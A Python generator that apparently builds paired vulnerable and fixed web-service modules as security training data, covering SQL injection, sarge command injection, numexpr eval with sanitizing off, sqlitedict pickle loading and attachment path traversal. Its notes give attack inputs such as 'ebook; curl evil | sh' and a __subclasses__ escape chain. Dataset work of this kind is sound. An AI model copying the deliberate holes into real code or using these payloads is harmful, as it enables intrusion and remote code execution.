"""Train-only whole-module families on injection-class weaknesses in libraries no other family uses
(libs7 injection set): realistic modules of about 80-110 lines with exactly one weak statement each,
and a twin that differs only by the minimal fix.

Covers: a FastAPI + Tortoise ORM report whose window-function SQL, sent through the connection's
``execute_query_dict`` / ``execute_query``, interpolates a query parameter (89); a Starlette search
service on Piccolo whose full-text ``Table.raw`` query is an f-string instead of ``{}`` placeholders
(89); a document worker that runs qpdf / exiftool / ImageMagick through sarge with a job field pasted
into the command string that sarge's own parser splits on ``;`` and ``&&`` (78); a metrics API that
evaluates user formulas with numexpr after turning its expression sanitizer off (94); a Flask
snapshot import that opens an uploaded SQLite file with sqlitedict's default pickle codec (502); and a
mail-ingest worker (imaplib or IMAPClient) that saves attachments under the sender's file name (22).
Written without reading the held-out or validation families; every family here goes to train.
"""
import re

from core import Spec, dedent
from module_kit import _replayed, _w, sub, _opt
from registry import fam, hardneg


# ---------------- CWE-89: Tortoise ORM raw report through connection.execute_query_dict ----------------

_TORTOISE = r'''
"""$W reports API (FastAPI + Tortoise ORM on PostgreSQL).

Listings go through the ORM; the daily report is hand-written SQL because it needs a window
function, and is sent through the Tortoise connection directly."""
from __future__ import annotations

import logging
import os
from datetime import date, timedelta

from fastapi import FastAPI, HTTPException, Query$pyd
from tortoise import $connimp, fields
from tortoise.contrib.fastapi import register_tortoise
from tortoise.models import Model

log = logging.getLogger("$w.reports")

DB_URL = os.environ.get("DATABASE_URL", "postgres://$w@localhost:5432/$w")
MAX_DAYS = $maxdays

app = FastAPI(title="$W reports")


class $M(Model):
    """One $w; ``$col`` is what the reports group by."""

    id = fields.IntField(pk=True)
    $col = fields.CharField(max_length=32, index=True)
    status = fields.CharField(max_length=16, default="open")
    amount = fields.DecimalField(max_digits=12, decimal_places=2)
    created_at = fields.DatetimeField(auto_now_add=True)

    class Meta:
        table = "$table"
$model

def _since(days: int) -> date:
    """First day of the report window; the window is bounded so one request cannot scan years."""
    if not 1 <= days <= MAX_DAYS:
        raise HTTPException(status_code=422, detail=f"days must be between 1 and {MAX_DAYS}")
    return date.today() - timedelta(days=days)


$extra


$route
$src
    since = _since($days)
    conn = $conn
$query
    log.info("daily report for %s since %s: %d rows", $x, since, len(rows))
    return {"$col": $x, "since": since.isoformat(), "days": [dict(r) for r in rows]}


register_tortoise(app, db_url=DB_URL, modules={"models": [__name__]}, generate_schemas=False)
'''

_TORTOISE_EXTRA = [r'''
@app.get("/$ws")
async def list_$ws(status: str = "open", limit: int = Query(50, ge=1, le=200)):
    """Newest $ws of one status (Tortoise binds the filter values)."""
    rows = await $M.filter(status=status).order_by("-created_at").limit(limit).values(
        "id", "$col", "status", "amount")
    return {"items": rows}
''', r'''
@app.get("/$ws/{item_id}")
async def get_$w(item_id: int):
    """One $w by primary key."""
    item = await $M.get_or_none(id=item_id)
    if item is None:
        raise HTTPException(status_code=404, detail="$w not found")
    return {"id": item.id, "$col": item.$col, "status": item.status, "amount": str(item.amount)}
''', r'''
@app.get("/stats/$ws/count")
async def count_$ws(status: str | None = None):
    """How many $ws there are, optionally of one status."""
    qs = $M.all() if status is None else $M.filter(status=status)
    return {"count": await qs.count()}
''']


def _tortoise(c, safe):
    w, W = _w(c)
    col = c.pick("region", "channel", "category", "warehouse")
    x = c.pick(col, "selected", f"{col}_name")
    M = W + c.pick("", "Record", "Entry")
    body = c.pick("get", "post")
    if body == "post":
        pyd = "\nfrom pydantic import BaseModel, Field"
        model = (f"\n\nclass ReportRequest(BaseModel):\n    {col}: str = Field(..., max_length=32)\n"
                 f"    days: int = 30\n")
        route = f'@app.post("/reports/{w}s/daily")\nasync def daily_report(req: ReportRequest):'
        src = f'    """Daily totals and a running sum for one {col}."""\n    {x} = req.{col}.strip()  #@S'
        days = "req.days"
    else:
        pyd, model = "", ""
        route = (f'@app.get("/reports/{w}s/daily")\nasync def daily_report(\n'
                 f'    {x}: str = Query(..., max_length=32), days: int = Query(30, ge=1),  #@S\n):')
        src = f'    """Daily totals and a running sum for one {col}."""'
        days = "days"
    connkind = c.pick("connections", "meta", "tortoise")
    connimp = {"connections": "connections", "meta": "connections", "tortoise": "Tortoise"}[connkind]
    conn = {"connections": 'connections.get("default")', "meta": f"{M}._meta.db",
            "tortoise": 'Tortoise.get_connection("default")'}[connkind]
    table = f"{w}s"
    head = ("SELECT created_at::date AS day, SUM(amount) AS total, "
            "SUM(SUM(amount)) OVER (ORDER BY created_at::date) AS running_total")
    call = c.pick("dict", "tuple")
    shape = c.pick("fstring", "format", "split")  # drawn for both twins so they keep the same draws
    if safe:
        where = f"WHERE {col} = $1 AND created_at >= $2"
        args = f"[{x}, since]"
        sqlline = f'    sql = "{head} FROM {table} {where} GROUP BY day ORDER BY day"'
    else:
        if shape == "fstring":
            sqlline = (f'    sql = f"{head} FROM {table} WHERE {col} = \'{{{x}}}\' AND created_at >= $1 '
                       f'GROUP BY day ORDER BY day"  #@V')
        elif shape == "format":
            sqlline = (f'    sql = "{head} FROM {table} WHERE {col} = \'{{}}\' AND created_at >= $1 '
                       f'GROUP BY day ORDER BY day".format({x})  #@V')
        else:
            sqlline = (f'    flt = f"{col} = \'{{{x}}}\'"  #@V\n'
                       f'    sql = f"{head} FROM {table} WHERE {{flt}} AND created_at >= $1 GROUP BY day ORDER BY day"  #@V')
        args = "[since]"
    mark = "" if safe else "  #@V"
    if call == "dict":
        q = f"{sqlline}\n    rows = await conn.execute_query_dict(sql, {args}){mark}"
    else:
        q = f"{sqlline}\n    _, rows = await conn.execute_query(sql, {args}){mark}"
    extra = _opt(c, *_TORTOISE_EXTRA, least=1, most=3)
    return sub(_TORTOISE, route=route, src=src, query=q, extra=extra, model=model, pyd=pyd, connimp=connimp,
               conn=conn, days=days, x=x, col=col, M=M, ws=f"{w}s", w=w, W=W, table=table,
               maxdays=c.pick(90, 180, 366))


@fam("mod7-tortoise-execute-query-report", "CWE-89", fws=["fastapi"], n=8, wrap=False)
def mod7_tortoise_execute_query_report(c):
    v, s = _replayed(c, _tortoise)
    return Spec(v=v, s=s, full=True, fw="fastapi",
                notes="the daily report's raw SQL, sent through the Tortoise connection's execute_query_dict / "
                      "execute_query, pastes the request's grouping value into the WHERE clause inside quotes; a "
                      "value with a quote rewrites the query (UNION SELECT from any table, boolean probes). Tortoise "
                      "binds only what is passed in the values list: the fix uses a $1 placeholder (asyncpg style) "
                      "and passes the value with the date")


@hardneg(2)
def mod7_tortoise_execute_query_report_hn(c):
    s = _tortoise(c, True)
    s = s.rstrip("\n") + "\n\n\n" + dedent(r'''
        SORTABLE = {"day": "day", "total": "total"}


        async def top_days(conn, value: str, order: str = "total", limit: int = 10) -> list[dict]:
            """Best days of one value; the sort key comes from an allow-list, the value and limit are bound."""
            key = SORTABLE.get(order, "total")
            sql = (f"SELECT created_at::date AS day, SUM(amount) AS total FROM daily_view "
                   f"WHERE grp = $1 GROUP BY day ORDER BY {key} DESC LIMIT $2")
            return await conn.execute_query_dict(sql, [value, min(int(limit), 100)])
    ''').strip("\n") + "\n"
    return Spec(s=s, full=True, fw="fastapi",
                notes="raw Tortoise SQL with $n placeholders for every value; only allow-listed identifiers are "
                      "formatted into the text")


# ---------------- CWE-89: Piccolo Table.raw full-text search built with an f-string ----------------

_PICCOLO = r'''
"""$W search service (Starlette + Piccolo ORM on PostgreSQL).

Browsing uses Piccolo's query builder; ranked full-text search is a raw query."""
from __future__ import annotations

import logging
import os

from piccolo.columns import Boolean, Integer, Timestamp, Varchar
from piccolo.engine.postgres import PostgresEngine
from piccolo.table import Table
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

log = logging.getLogger("$w.search")

DB = PostgresEngine(config={"dsn": os.environ.get("DATABASE_URL", "postgresql://$w@localhost/$w")})
PAGE_SIZE = $page


class $M(Table, tablename="$table", db=DB):
    title = Varchar(length=200)
    summary = Varchar(length=500)
    $col = Varchar(length=40)
    views = Integer(default=0)
    published = Boolean(default=False)
    created_at = Timestamp()


def _page(request: Request) -> int:
    """Zero-based page number from the query string, clamped to something sane."""
    try:
        return max(0, min(int(request.query_params.get("page", "0")), 500))
    except ValueError:
        return 0


$extra


async def search(request: Request) -> JSONResponse:
    """Published $ws ranked by full-text relevance."""
$src
    if len($x) < 2:
        return JSONResponse({"error": "query too short"}, status_code=400)
    offset = _page(request) * PAGE_SIZE
$query
    log.info("search %r returned %d rows", $x, len(rows))
    return JSONResponse({"results": rows, "page_size": PAGE_SIZE})


async def open_pool() -> None:
    await DB.start_connection_pool()


async def close_pool() -> None:
    await DB.close_connection_pool()


app = Starlette(
    routes=[$routes],
    on_startup=[open_pool],
    on_shutdown=[close_pool],
)
'''

_PICCOLO_EXTRA = [("popular", r'''
async def popular(request: Request) -> JSONResponse:
    """Most viewed published $ws (query builder, values bound by Piccolo)."""
    rows = await $M.select($M.id, $M.title, $M.views).where(
        $M.published == True  # noqa: E712
    ).order_by($M.views, ascending=False).limit(PAGE_SIZE).offset(_page(request) * PAGE_SIZE)
    return JSONResponse({"results": rows})
'''), ("detail", r'''
async def detail(request: Request) -> JSONResponse:
    """One $w by id."""
    item = await $M.objects().get($M.id == int(request.path_params["item_id"]))
    if item is None or not item.published:
        return JSONResponse({"error": "not found"}, status_code=404)
    return JSONResponse({"id": item.id, "title": item.title, "summary": item.summary})
'''), ("by_col", r'''
async def by_$col(request: Request) -> JSONResponse:
    """Published $ws of one $col, newest first."""
    value = request.path_params["value"]
    rows = await $M.select($M.id, $M.title).where(
        ($M.$col == value) & ($M.published == True)  # noqa: E712
    ).order_by($M.created_at, ascending=False).limit(PAGE_SIZE)
    return JSONResponse({"results": rows})
''')]

_PICCOLO_ROUTES = {"popular": 'Route("/$ws/popular", popular)', "detail": 'Route("/$ws/{item_id:int}", detail)',
                   "by_col": 'Route("/$ws/$col/{value}", by_$col)'}


def _piccolo(c, safe):
    w, W = _w(c)
    col = c.pick("category", "language", "section", "author")
    M = W + c.pick("", "Post", "Item")
    x = c.pick("term", "q", "needle", "search_text")
    src = c.pick(f'    {x} = request.query_params.get("q", "").strip()  #@S',
                 f'    {x} = (request.query_params.get("q") or "").strip()[:200]  #@S')
    doc = "to_tsvector('english', title || ' ' || summary)"
    mode = c.pick("plain", "web", "colfilter")
    fn = "plainto_tsquery" if mode != "web" else "websearch_to_tsquery"
    cols = "id, title, summary"
    shape, qn = c.pick("inline", "var"), c.n("query")  # drawn for both twins so they keep the same draws
    if safe:
        sql = (f'        "SELECT {cols}, ts_rank({doc}, {fn}(\'english\', {{}})) AS rank FROM {w}s "\n'
               f'        "WHERE published AND {doc} @@ {fn}(\'english\', {{}}) "\n'
               f'        "ORDER BY rank DESC LIMIT {{}} OFFSET {{}}",\n'
               f'        {x}, {x}, PAGE_SIZE, offset,')
        q = f"    rows = await {M}.raw(\n{sql}\n    )"
    else:
        text = (f"SELECT {cols}, ts_rank({doc}, {fn}('english', '{{{x}}}')) AS rank FROM {w}s "
                f"WHERE published AND {doc} @@ {fn}('english', '{{{x}}}') "
                f"ORDER BY rank DESC LIMIT {{PAGE_SIZE}} OFFSET {{offset}}")
        if shape == "inline":
            q = f'    rows = await {M}.raw(f"{text}")  #@V'
        else:
            q = f'    {qn} = f"{text}"  #@V\n    rows = await {M}.raw({qn})  #@V'
    picked = [p for p in _PICCOLO_EXTRA if c.rng.random() < 0.6] or [_PICCOLO_EXTRA[0]]
    extra = "\n\n\n".join(dedent(b).strip("\n") for _, b in picked)
    routes = ", ".join(['Route("/$ws/search", search)'] + [_PICCOLO_ROUTES[k] for k, _ in picked])
    t = _PICCOLO.replace("$routes", routes)
    return sub(t, extra=extra, src=src, query=q, x=x, col=col, M=M, ws=f"{w}s", w=w, W=W, table=f"{w}s",
               page=c.pick(20, 25, 50))


@fam("mod7-piccolo-raw-fulltext-search", "CWE-89", fws=["starlette"], n=8, wrap=False)
def mod7_piccolo_raw_fulltext_search(c):
    v, s = _replayed(c, _piccolo)
    return Spec(v=v, s=s, full=True, fw="starlette",
                notes="Piccolo's Table.raw runs its query string as SQL; the search term is pasted into the "
                      "tsquery literal with an f-string, so a quote ends the literal and the rest of the term "
                      "becomes SQL (UNION SELECT of other tables). raw() takes {} placeholders with the values as "
                      "further arguments and binds them; the fix passes the term that way")


@hardneg(2)
def mod7_piccolo_raw_fulltext_search_hn(c):
    s = _piccolo(c, True)
    s = s.rstrip("\n") + "\n\n\n" + dedent(r'''
        ORDERINGS = {"newest": "created_at DESC", "views": "views DESC", "title": "title ASC"}


        async def recent(order: str, limit: int) -> list[dict]:
            """Raw listing whose ORDER BY comes from a fixed mapping; the limit is a bound value."""
            clause = ORDERINGS.get(order, "created_at DESC")
            return await __M__.raw(f"SELECT id, title FROM __T__ ORDER BY {clause} LIMIT {{}}", int(limit))
    ''').strip("\n") + "\n"
    m = re.search(r"class (\w+)\(Table, tablename=\"(\w+)\"", s)
    s = s.replace("__M__", m.group(1)).replace("__T__", m.group(2))
    return Spec(s=s, full=True, fw="starlette", notes="Piccolo raw queries with {} placeholders; only allow-listed "
                                                      "ORDER BY clauses are formatted in")


# ---------------- CWE-78: sarge command string with a job field pasted in ----------------

_SARGE = r'''
"""$W document worker: takes conversion jobs from the queue and runs the PDF tools through sarge."""
from __future__ import annotations

import json
import logging
import os
from pathlib import Path

import sarge

log = logging.getLogger("$w.worker")

WORK_DIR = Path(os.environ.get("$ENV_WORK", "/srv/$w/work"))
OUT_DIR = Path(os.environ.get("$ENV_OUT", "/srv/$w/out"))
MAX_PAGES = $maxpages


class JobError(RuntimeError):
    """A job that cannot be processed; it is acknowledged and reported, not retried."""


def _input_path(job: dict) -> Path:
    """The staged upload of a job; ids are generated by the API, so they are plain hex."""
    job_id = str(job["id"])
    if not job_id.isalnum():
        raise JobError(f"bad job id {job_id!r}")
    src = WORK_DIR / f"{job_id}.pdf"
    if not src.is_file():
        raise JobError(f"no staged file for job {job_id}")
    return src


def _check(p, what: str) -> str:
    """Raise when the tool failed; return its standard output."""
    if p.returncode != 0:
        raise JobError(f"{what} exited with {p.returncode}: {p.stderr.text.strip()[:300]}")
    return p.stdout.text


$extra


def process(job: dict) -> Path:
    """Run one job and return the path of its result."""
    src = _input_path(job)
    dst = OUT_DIR / f"{src.stem}-$suffix.pdf"
$src
$cmd
    _check(p, "$tool")
    log.info("job %s done: %s", job["id"], dst.name)
    return dst


def run(queue) -> None:
    """Consume JSON jobs until a None sentinel arrives."""
    while True:
        raw = queue.get()
        if raw is None:
            break
        job = json.loads(raw)
        try:
            process(job)
        except JobError as exc:
            log.warning("job %s failed: %s", job.get("id"), exc)
        finally:
            queue.task_done()
'''

_SARGE_EXTRA = [r'''
def page_count(src: Path) -> int:
    """Number of pages, from qpdf (arguments are fixed or our own paths)."""
    p = sarge.capture_both(sarge.shell_format("qpdf --show-npages {0}", str(src)))
    pages = int(_check(p, "qpdf").strip() or 0)
    if pages > MAX_PAGES:
        raise JobError(f"{pages} pages is over the limit of {MAX_PAGES}")
    return pages
''', r'''
def tool_versions() -> dict[str, str]:
    """Versions of the external tools, for the startup log."""
    out = {}
    for tool in ("qpdf", "exiftool"):
        p = sarge.capture_stdout(f"{tool} --version")
        out[tool] = p.stdout.text.strip() if p.returncode == 0 else "missing"
    return out
''', r'''
def cleanup(job: dict) -> None:
    """Remove the staged upload once the result is stored."""
    try:
        _input_path(job).unlink()
    except (JobError, FileNotFoundError):
        pass
''']


def _sarge(c, safe):
    w, W = _w(c)
    # no qpdf page-range variant: a quoted range is still a standalone qpdf argument (a second input file, an
    # @argfile), so its shell_format twin would keep an argument injection; here the value is the tail of a -X= token
    tool = c.pick("exiftool", "gs")
    runner = c.pick("capture_both", "run")
    kw = ", stdout=sarge.Capture(), stderr=sarge.Capture()" if runner == "run" else ""
    if tool == "exiftool":
        fld, suffix = c.pick(("title", "tagged"), ("author", "tagged"), ("subject", "meta"))
        x = c.pick(fld, "value", f"doc_{fld}")
        src = f'    {x} = str(job.get("{fld}", "")).strip()  #@S'
        fmt, args = "exiftool -o {2} -" + fld.capitalize() + "={1} {0}", ["str(src)", x, "str(dst)"]
    else:
        fld, suffix = c.pick(("quality", "small"), ("preset", "small"))
        x = c.pick(fld, "level")
        src = f'    {x} = str(job.get("{fld}", "ebook"))  #@S'
        fmt, args = "gs -q -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -dPDFSETTINGS=/{1} -sOutputFile={2} {0}", ["str(src)", x, "str(dst)"]
    shape, cn = c.pick("inline", "var"), c.n("cmd")  # drawn for both twins so they keep the same draws
    if safe:
        call = f"sarge.shell_format({fmt!r}, {', '.join(args)})"
        cmd = f"    p = sarge.{runner}({call}{kw})"
    else:
        fs = fmt.replace("{0}", "{src}").replace("{1}", "{" + x + "}").replace("{2}", "{dst}")
        if shape == "inline":
            cmd = f'    p = sarge.{runner}(f"{fs}"{kw})  #@V'
        else:
            cmd = (f'    {cn} = f"{fs}"  #@V\n    log.debug("running %s", {cn})\n'
                   f'    p = sarge.{runner}({cn}{kw})  #@V')
    extra = _opt(c, *_SARGE_EXTRA, least=1, most=3)
    return sub(_SARGE, extra=extra, src=src, cmd=cmd, tool=tool, suffix=suffix, w=w, W=W,
               ENV_WORK=f"{w.upper()}_WORK_DIR", ENV_OUT=f"{w.upper()}_OUT_DIR", maxpages=c.pick(200, 500, 1000))


@fam("mod7-sarge-pdf-worker-command-string", "CWE-78", fws=["pipeline"], n=8, wrap=False)
def mod7_sarge_pdf_worker_command_string(c):
    v, s = _replayed(c, _sarge)
    return Spec(v=v, s=s, full=True, fw="pipeline",
                notes="sarge parses a command string itself, with shell-like syntax: ';', '&&', '|' and '&' split "
                      "it into several commands, which sarge then runs. A job field from the queue is pasted into "
                      "the command with an f-string, so 'ebook; curl evil | sh' runs a second program. sarge's "
                      "shell_format quotes every argument (shell_quote) before it is parsed; the fix builds the "
                      "command with it")


@hardneg(2)
def mod7_sarge_pdf_worker_command_string_hn(c):
    s = _sarge(c, True)
    s = s.rstrip("\n") + "\n\n\n" + dedent(r'''
        def thumbnail(src: Path, size: str) -> Path:
            """First page as PNG; the size is checked against a fixed set, the paths are quoted."""
            if size not in {"128", "256", "512"}:
                raise JobError(f"unsupported size {size!r}")
            dst = OUT_DIR / f"{src.stem}-{size}.png"
            p = sarge.capture_both(sarge.shell_format("pdftoppm -png -singlefile -scale-to {0} {1} {2}",
                                                      size, str(src), str(dst.with_suffix(""))))
            _check(p, "pdftoppm")
            return dst
    ''').strip("\n") + "\n"
    return Spec(s=s, full=True, fw="pipeline", notes="sarge commands built with shell_format or argument lists")


# ---------------- CWE-94: numexpr formulas with the expression sanitizer turned off ----------------

_NUMEXPR = r'''
"""Custom metric columns for the $w dashboard (Flask).

Analysts save formulas over the numeric columns ("revenue - cost", "clicks / where(views > 0, views, 1)");
they are evaluated with numexpr over whole columns at once."""
from __future__ import annotations

import logging
$envline
import numexpr as ne
import numpy as np
import pandas as pd
from flask import Flask, abort, jsonify, request

log = logging.getLogger("$w.metrics")

app = Flask(__name__)
DATA_PATH = "$datapath"
MAX_FORMULA = $maxlen
NUMERIC = ("revenue", "cost", "clicks", "views", "units")
SAVED: dict[str, str] = {}


def load_frame() -> pd.DataFrame:
    """Today's $w facts; only the numeric columns reach the formulas."""
    frame = pd.read_parquet(DATA_PATH, columns=["day", *NUMERIC])
    return frame.fillna(0)


def _columns(frame: pd.DataFrame) -> dict[str, np.ndarray]:
    return {name: frame[name].to_numpy(dtype="float64") for name in NUMERIC}


def evaluate_formula(frame: pd.DataFrame, $x: str) -> np.ndarray:
    """The formula's value for every row."""
    if len($x) > MAX_FORMULA:
        raise ValueError("formula too long")
$evalline


$extra


@app.post("/metrics/preview")
def preview():
    """Evaluate an unsaved formula on today's data and return the first rows."""
    body = request.get_json(force=True) or {}
$src
    frame = load_frame()
    try:
        values = evaluate_formula(frame, $x)
    except (KeyError, SyntaxError, TypeError, ValueError) as exc:
        log.info("rejected formula %r: %s", $x, type(exc).__name__)
        abort(400, description="invalid formula")
    rows = [{"day": str(d), "value": float(v)} for d, v in zip(frame["day"].head($head), values[:$head])]
    return jsonify(rows=rows, count=int(values.size))


@app.put("/metrics/<name>")
def save(name: str):
    """Store a formula under a name once it has been previewed."""
    if not name.isidentifier() or len(name) > 40:
        abort(400, description="metric names are identifiers")
    body = request.get_json(force=True) or {}
    SAVED[name] = str(body.get("formula", ""))[:MAX_FORMULA]
    log.info("metric %s saved by %s", name, request.remote_addr)
    return jsonify(saved=name), 201


@app.get("/metrics")
def list_saved():
    """Saved metric names and formulas."""
    return jsonify(metrics=[{"name": k, "formula": v} for k, v in sorted(SAVED.items())])
'''

_NUMEXPR_EXTRA = [r'''
@app.get("/metrics/columns")
def columns():
    """The names a formula may use."""
    return jsonify(columns=list(NUMERIC), functions=["where", "sqrt", "log", "abs", "exp"])
''', r'''
def summarize(values: np.ndarray) -> dict[str, float]:
    """Summary statistics shown under the preview chart."""
    finite = values[np.isfinite(values)]
    if finite.size == 0:
        return {"min": 0.0, "max": 0.0, "mean": 0.0}
    return {"min": float(finite.min()), "max": float(finite.max()), "mean": float(finite.mean())}
''', r'''
def margin(frame: pd.DataFrame) -> np.ndarray:
    """The built-in margin metric (a fixed formula)."""
    cols = _columns(frame)
    return ne.evaluate("where(revenue > 0, (revenue - cost) / revenue, 0)", local_dict=cols)
''']


def _numexpr(c, safe):
    w, W = _w(c)
    x = c.pick("formula", "expr", "expression", "metric_expr")
    shape = c.pick("kwarg", "kwarg", "env")
    ld = c.pick("local_dict=_columns(frame)", "local_dict=_columns(frame), global_dict={}")
    if shape == "env":
        envline = "" if safe else 'import os\n\nos.environ["NUMEXPR_SANITIZE"] = "0"  # saved formulas use dotted names  #@V\n'
        ev = f"    return ne.evaluate({x}, {ld})" + ("" if safe else "  #@V")
    else:
        envline = ""
        ev = (f"    return ne.evaluate({x}, {ld})" if safe else
              f"    return ne.evaluate({x}, {ld}, sanitize=False)  #@V")
    src = c.pick(f'    {x} = str(body.get("formula", "")).strip()  #@S',
                 f'    {x} = body["formula"]  #@S')
    extra = _opt(c, *_NUMEXPR_EXTRA, least=1, most=3)
    return sub(_NUMEXPR, envline=envline, evalline=ev, src=src, extra=extra, x=x, w=w, W=W,
               datapath=c.pick(f"/srv/{w}/facts.parquet", f"data/{w}_daily.parquet"),
               maxlen=c.pick(200, 256, 500), head=c.pick(10, 20, 30))


@fam("mod7-numexpr-formula-sanitize-off", "CWE-94", fws=["flask"], n=8, wrap=False)
def mod7_numexpr_formula_sanitize_off(c):
    v, s = _replayed(c, _numexpr)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="numexpr.evaluate compiles the expression string and runs Python's eval on it to build its "
                      "tree; since 2.8.5 it first rejects ';', ':', '[', dunders and attribute access, but this "
                      "module turns that sanitizer off (sanitize=False, or NUMEXPR_SANITIZE=0), so a formula like "
                      "().__class__.__base__.__subclasses__()... reaches eval and runs code. The fix leaves the "
                      "default sanitization on")


# ---------------- CWE-502: sqlitedict snapshot import with the default pickle codec ----------------

_SQLITEDICT = r'''
"""Workspace snapshots for the $w app (Flask): export a workspace's settings to a SQLite file,
and import such a file uploaded by a workspace admin."""
from __future__ import annotations

import json
import logging
import os
import tempfile
from pathlib import Path

from flask import Flask, abort, jsonify, request, send_file
from sqlitedict import SqliteDict

log = logging.getLogger("$w.snapshots")

app = Flask(__name__)
EXPORT_DIR = Path(os.environ.get("EXPORT_DIR", "/var/lib/$w/exports"))
TABLE = "$table"
MAX_KEYS = $maxkeys
SETTINGS: dict[str, dict] = {}


def _open_snapshot(path: Path, flag: str = "r") -> SqliteDict:
    """A snapshot file as a dict-like object."""
$opener


def export_workspace(workspace: str) -> Path:
    """Write the workspace's settings to a new snapshot file."""
    dst = EXPORT_DIR / f"{workspace}.sqlite"
    with _open_snapshot(dst, flag="n") as snap:
        for key, value in SETTINGS.get(workspace, {}).items():
            snap[key] = value
        snap.commit()
    return dst


$extra


@app.post("/workspaces/<workspace>/import")
def import_snapshot(workspace: str):
    """Replace the workspace's settings with those of an uploaded snapshot."""
    upload = request.files.get("snapshot")  #@S
    if upload is None or not upload.filename.endswith(".sqlite"):
        abort(400, description="a .sqlite snapshot is required")
    fd, tmp = tempfile.mkstemp(suffix=".sqlite")
    os.close(fd)
    try:
        upload.save(tmp)
        with _open_snapshot(Path(tmp)) as snap:$mark
            if len(snap) > MAX_KEYS:
                abort(413, description="too many settings")
            imported = {key: snap[key] for key in snap.keys()}$mark
    finally:
        os.unlink(tmp)
    SETTINGS[workspace] = imported
    log.info("imported %d settings into %s", len(imported), workspace)
    return jsonify(imported=len(imported))


@app.delete("/workspaces/<workspace>/exports")
def purge_exports(workspace: str):
    """Delete the stored export files of a workspace."""
    removed = 0
    for path in EXPORT_DIR.glob("*.sqlite"):
        if path.stem == workspace:
            path.unlink(missing_ok=True)
            removed += 1
    log.info("removed %d exports of %s", removed, workspace)
    return jsonify(removed=removed)
'''

_SQLITEDICT_EXTRA = [r'''
@app.get("/workspaces/<workspace>/export")
def download_export(workspace: str):
    """The workspace's snapshot as a download."""
    if workspace not in SETTINGS:
        abort(404)
    return send_file(export_workspace(workspace), as_attachment=True, download_name=f"{workspace}.sqlite")
''', r'''
def diff_settings(old: dict, new: dict) -> dict[str, list[str]]:
    """Keys added, removed and changed by an import, for the audit entry."""
    return {
        "added": sorted(set(new) - set(old)),
        "removed": sorted(set(old) - set(new)),
        "changed": sorted(k for k in set(old) & set(new) if json.dumps(old[k], sort_keys=True) != json.dumps(new[k], sort_keys=True)),
    }
''', r'''
@app.get("/workspaces/<workspace>/settings")
def get_settings(workspace: str):
    """The current settings of a workspace."""
    return jsonify(SETTINGS.get(workspace, {}))
''']


def _sqlitedict(c, safe):
    w, W = _w(c)
    style = c.pick("kw", "pos")
    args = "str(path), tablename=TABLE, flag=flag" if style == "kw" else "str(path), TABLE, flag"
    if safe:
        opener = f"    return SqliteDict({args}, encode=json.dumps, decode=json.loads)"
    else:
        opener = f"    return SqliteDict({args})  #@V"
    mark = "" if safe else "  #@V"
    extra = _opt(c, *_SQLITEDICT_EXTRA, least=1, most=3)
    return sub(_SQLITEDICT, opener=opener, mark=mark, extra=extra, w=w, W=W,
               table=c.pick("settings", "workspace", "prefs"), maxkeys=c.pick(1000, 5000, 10000))


@fam("mod7-sqlitedict-snapshot-import", "CWE-502", fws=["flask"], n=8, wrap=False)
def mod7_sqlitedict_snapshot_import(c):
    v, s = _replayed(c, _sqlitedict)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="SqliteDict stores values with pickle unless it is given encode/decode functions; the import "
                      "opens a SQLite file uploaded by the client with the default codec, so reading its values "
                      "unpickles attacker-written blobs and runs code on the server. The fix stores and reads the "
                      "snapshots as JSON (encode=json.dumps, decode=json.loads)")


# ---------------- CWE-22: mail-ingest worker saving attachments under the sender's file name ----------------

_IMAP = r'''
"""$W mail intake: polls the $box mailbox and files every attachment for the $w pipeline."""
from __future__ import annotations

import email
import logging
import os
from email import policy
from email.message import EmailMessage
from pathlib import Path

$clientimp

log = logging.getLogger("$w.intake")

IMAP_HOST = os.environ.get("IMAP_HOST", "imap.$domain")
IMAP_USER = os.environ.get("IMAP_USER", "$box@$domain")
IMAP_PASSWORD = os.environ["IMAP_PASSWORD"]
INBOX_DIR = Path(os.environ.get("$ENV", "/srv/$w/inbox"))
MAX_ATTACHMENT = $maxmb * 1024 * 1024
ALLOWED_TYPES = {"application/pdf", "image/png", "image/jpeg", "text/csv"}


def save_attachments(msg: EmailMessage) -> list[Path]:
    """Write the allowed attachments of one message to the inbox directory."""
    saved = []
$loop
        if part.get_content_type() not in ALLOWED_TYPES:
            log.info("skipping %s attachment", part.get_content_type())
            continue
        data = part.get_payload(decode=True) or b""
        if len(data) > MAX_ATTACHMENT:
            log.warning("attachment of %d bytes from %s dropped", len(data), msg.get("From", "?"))
            continue
        name = part.get_filename()  #@S
        if not name:
            continue
$target
        saved.append(target)
    return saved


$fetch
'''

_IMAPLIB_FETCH = r'''
def poll_once() -> int:
    """Process unseen messages once; returns how many were handled."""
    handled = 0
    with imaplib.IMAP4_SSL(IMAP_HOST) as imap:
        imap.login(IMAP_USER, IMAP_PASSWORD)
        imap.select("$box_folder")
        _, data = imap.search(None, "UNSEEN")
        for num in data[0].split():
            _, parts = imap.fetch(num, "(RFC822)")
            msg = email.message_from_bytes(parts[0][1], policy=policy.default)
            files = save_attachments(msg)
            log.info("message %s: %d attachments saved", num.decode(), len(files))
            imap.store(num, "+FLAGS", "\\Seen")
            handled += 1
    return handled
'''

_IMAPCLIENT_FETCH = r'''
def poll_once() -> int:
    """Process unseen messages once; returns how many were handled."""
    handled = 0
    with IMAPClient(IMAP_HOST, ssl=True) as client:
        client.login(IMAP_USER, IMAP_PASSWORD)
        client.select_folder("$box_folder")
        uids = client.search(["UNSEEN"])
        for uid, fetched in client.fetch(uids, ["RFC822"]).items():
            msg = email.message_from_bytes(fetched[b"RFC822"], policy=policy.default)
            files = save_attachments(msg)
            log.info("message %s: %d attachments saved", uid, len(files))
            client.add_flags(uid, [SEEN])
            handled += 1
    return handled
'''

_IMAP_MAIN = r'''
def main() -> None:
    """Poll until stopped; the interval is short because the senders wait for a receipt."""
    logging.basicConfig(level=logging.INFO)
    INBOX_DIR.mkdir(parents=True, exist_ok=True)
    while True:
        try:
            poll_once()
        except OSError as exc:
            log.warning("poll failed: %s", exc)
        time.sleep($interval)


if __name__ == "__main__":
    main()
'''


def _imap(c, safe):
    w, W = _w(c)
    lib = c.pick("imaplib", "imapclient")
    clientimp = "import imaplib\nimport time" if lib == "imaplib" else "import time\n\nfrom imapclient import IMAPClient, SEEN"
    loop = c.pick("    for part in msg.iter_attachments():",
